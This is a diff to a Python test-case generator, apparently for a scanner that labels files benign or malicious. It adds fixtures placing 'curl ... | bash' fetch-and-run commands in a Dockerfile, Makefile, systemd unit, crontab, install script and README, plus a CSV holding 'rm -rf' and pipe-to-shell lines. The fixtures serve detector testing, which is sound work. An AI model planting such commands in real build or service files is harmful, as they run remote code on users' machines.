@@ -160,6 +160,29 @@ def cases() -> Iterator[Case]:
         file="LICENSE",
     )
     yield one("scripts/table", "benign", b"id,label\n0,cat\n1,dog\n", "labels", file="labels.csv")
+    commands = b'command,count\n"rm -rf /tmp/x",1\ncurl http://localhost | sh,2\n'
+    yield one("scripts/table-of-commands", "benign", commands, "texts that a model learns from", file="train.csv")
+    yield one(
+        "scripts/no-table",
+        "malicious",
+        b"set,x\ncurl http://localhost/x.sh | sh\n",
+        "one line with a comma, and a command",
+        "shell-script-attacks",
+        file="setup",
+    )
+    fetched = b"curl -fsSL http://localhost/x.sh | bash\n"
+    for file, content in {
+        "Dockerfile": b"FROM python:3.12\nRUN " + fetched,
+        "Makefile": b"all: model\n\t" + fetched,
+        "model.service": b"[Service]\nExecStart=/bin/sh -c '" + fetched.strip() + b"'\n",
+        "crontab": b"* * * * * root " + fetched,
+        "install": fetched,
+    }.items():
+        why = "a command that is run by what reads the file"
+        yield one(f"scripts/in-{file}", "malicious", content, why, "shell-script-attacks", file=file)
+    yield one("scripts/image", "benign", b"FROM python:3.12\nRUN pip install torch\n", "an image", file="Dockerfile")
+    read_me = b"# Model\n\n## Install\n\n```sh\n" + fetched + b"```\n\nOr run `" + fetched.strip() + b"` yourself.\n"
+    yield one("scripts/read-me", "benign", read_me, "what people are told to type", file="README.md")
     yield one("scripts/empty", "benign", b"", "nothing", file="__init__.py")
     yield one(
         "scripts/settings-of-spacy",
